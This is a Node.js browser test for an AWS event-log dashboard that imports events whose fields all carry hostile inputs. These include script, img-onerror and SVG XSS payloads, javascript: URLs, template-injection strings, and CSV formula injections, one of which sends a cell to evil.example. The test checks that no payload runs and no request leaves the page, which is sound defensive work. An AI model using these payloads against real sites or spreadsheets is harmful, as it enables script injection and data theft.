// Hostile event content: every string field of every event carries HTML, script, SVG and
// javascript: URL payloads, CSV formulas or very long values. No page may run or inject
// anything, and layouts must survive the long values.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import path from 'node:path';
import { writeFileSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { SHOTS, importInto, startServer, tempDb, launch, watchedPage, addUser, signedInContext } from './helpers.mjs';

const PAYLOADS = [
  '<script>window.__pwned="script"</script>',
  '"><img src=x onerror="window.__pwned=\'img\'">',
  "'><svg onload=\"window.__pwned='svg'\"><circle r=9 /></svg>",
  'javascript:window.__pwned="url"',
  '</title></textarea></pre><iframe srcdoc="<script>parent.__pwned=1</script>">',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '{{constructor.constructor("window.__pwned=\'tpl\'")()}}',
  'x'.repeat(6000),
  `${'A'.repeat(300)} ${'<b>bold</b>'.repeat(200)}`,
];

function record(i, p) {
  const id = `${String(i).padStart(8, '0')}-0000-4000-8000-000000000000`;
  return {
    eventVersion: '1.09',
    eventTime: `2024-03-01T10:${String(i % 60).padStart(2, '0')}:00Z`,
    eventSource: i % 2 ? p : 's3.amazonaws.com',
    eventName: p,
    awsRegion: i % 3 ? p : 'us-east-1',
    sourceIPAddress: p,
    userAgent: p,
    errorCode: p,
    errorMessage: p,
    requestID: p,
    sharedEventID: p,
    eventID: id,
    eventType: p,
    eventCategory: p,
    recipientAccountId: '111122223333',
    userIdentity: {
      type: i % 2 ? 'AssumedRole' : 'IAMUser',
      principalId: p,
      arn: `arn:aws:sts::111122223333:assumed-role/${p}/${p}`,
      accountId: '111122223333',
      accessKeyId: p,
      userName: p,
      sessionContext: {
        sessionIssuer: { type: 'Role', principalId: p, arn: `arn:aws:iam::111122223333:role/${p}`, accountId: '111122223333', userName: p },
        sourceIdentity: p,
        attributes: { mfaAuthenticated: p, creationDate: '2024-03-01T09:00:00Z' },
      },
    },
    requestParameters: { bucketName: p, key: p, roleName: p, userName: p, functionName: p, groupId: p, instanceId: p, policyArn: p, name: p, [p.slice(0, 50)]: p },
    responseElements: { [p.slice(0, 40)]: p, credentials: { accessKeyId: p, sessionToken: p } },
    additionalEventData: { x: p },
    resources: [{ ARN: `arn:aws:s3:::${p}`, accountId: '111122223333', type: p }],
    tlsDetails: { clientProvidedHostHeader: p },
  };
}

let server, browser, imported;

before(async () => {
  const dir = mkdtempSync(path.join(tmpdir(), 'cairn-hostile-'));
  const records = [];
  PAYLOADS.forEach((p, i) => { records.push(record(i * 2, p)); records.push(record(i * 2 + 1, p)); });
  const file = path.join(dir, 'hostile.json');
  writeFileSync(file, JSON.stringify({ Records: records }));
  const db = tempDb();
  const s = importInto(db, [file]);
  imported = s.events_new;
  assert.equal(s.records_rejected, 0, JSON.stringify(s.rejected_records));
  assert.equal(imported, records.length);
  addUser(db, 'hal', 'admin');
  server = await startServer(db);
  browser = await launch();
});

after(async () => {
  await browser?.close();
  server?.stop();
});

/** Fails on anything a payload could have made happen. */
async function assertUntouched(page, where) {
  const found = await page.evaluate(() => ({
    pwned: window.__pwned ?? null,
    imgs: document.querySelectorAll('img[src="x"], iframe, object, embed').length,
    handlers: [...document.querySelectorAll('*')].filter((e) => [...e.attributes].some((a) => a.name.startsWith('on'))).length,
    jsLinks: [...document.querySelectorAll('a[href], form[action]')].filter((a) => /^\s*javascript:/i.test(a.getAttribute('href') ?? a.getAttribute('action'))).length,
    svgs: [...document.querySelectorAll('svg')].filter((s) => !s.classList.contains('chart__svg') && !s.classList.contains('top-list__bar')).length,
    overflow: document.documentElement.scrollWidth - window.innerWidth,
  }));
  assert.equal(found.pwned, null, `${where}: a payload ran`);
  assert.equal(found.imgs, 0, `${where}: injected elements`);
  assert.equal(found.handlers, 0, `${where}: injected event handlers`);
  assert.equal(found.jsLinks, 0, `${where}: javascript: links`);
  assert.equal(found.svgs, 0, `${where}: injected SVG`);
  assert.ok(found.overflow <= 1, `${where}: the page is ${found.overflow}px wider than the window`);
}

for (const js of [true, false]) {
  test(`no page runs or injects hostile content (JavaScript ${js ? 'on' : 'off'})`, async () => {
    const context = await signedInContext(browser, server.base, 'hal', { javaScriptEnabled: js, viewport: { width: 1280, height: 900 } });
    const problems = [];
    const page = await watchedPage(context, problems);
    const foreign = [];
    page.on('request', (r) => { if (!r.url().startsWith(server.base) && !r.url().startsWith('data:')) foreign.push(r.url()); });
    await page.goto(`${server.base}/?range=all`);
    if (js) await page.waitForLoadState('networkidle');
    assert.equal(await page.locator('table.events-table tbody tr').count(), imported);
    await assertUntouched(page, 'timeline');
    if (js) await page.screenshot({ path: path.join(SHOTS, 'hostile-timeline.png'), fullPage: true });
    const hrefs = await page.locator('table.events-table tbody tr td:first-child a').evaluateAll((as) => as.map((a) => a.getAttribute('href')));
    assert.equal(hrefs.length, imported);
    for (const [i, href] of hrefs.entries()) {
      await page.goto(`${server.base}${href}`);
      if (js) await page.waitForLoadState('networkidle');
      await assertUntouched(page, href);
      if (js && i === hrefs.length - 1) await page.screenshot({ path: path.join(SHOTS, 'hostile-event.png'), fullPage: true });
    }
    // Principal and resource pages of hostile names, and a view filtered on one.
    const more = await page.evaluate(() => [...new Set([...document.querySelectorAll('a[href^="/principals/"], a[href^="/resources/"], a[href^="/ips/"], a[href^="/access-keys/"], .top-list a')].map((a) => a.getAttribute('href')))].slice(0, 16));
    await page.goto(`${server.base}/?range=all`);
    const fromTable = await page.locator('table.events-table a[href^="/principals/"], table.events-table a[href^="/resources/"], table.events-table a[href^="/ips/"]').evaluateAll((as) => [...new Set(as.map((a) => a.getAttribute('href')))]);
    assert.ok(fromTable.length >= 3, 'principal, resource and address links');
    // Whole top lists of hostile values.
    const tops = await page.locator('[data-testid=show-all]').evaluateAll((as) => as.map((a) => a.getAttribute('href')));
    for (const href of [...fromTable.slice(0, 12), ...tops, ...more]) {
      await page.goto(`${server.base}${href}`);
      if (js) await page.waitForLoadState('networkidle');
      await assertUntouched(page, href);
    }
    await page.goto(`${server.base}/admin/audit`);
    await assertUntouched(page, 'audit');
    assert.deepEqual(foreign, [], 'requests left the dashboard');
    assert.deepEqual(problems, []);
    await context.close();
  });
}
